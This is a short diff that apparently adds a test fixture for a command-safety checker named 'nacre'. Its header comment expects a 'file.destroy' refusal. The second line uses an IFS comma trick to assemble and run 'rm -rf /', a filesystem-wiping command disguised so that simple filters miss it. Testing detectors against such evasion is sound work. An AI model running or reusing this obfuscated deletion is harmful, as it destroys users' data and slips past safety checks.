@@ -1,0 +1,5 @@
+# nacre: refused file.destroy
+IFS=,; x=rm,-rf,/; $x
+if [ -e done ]; then
+	echo "done"
+fi
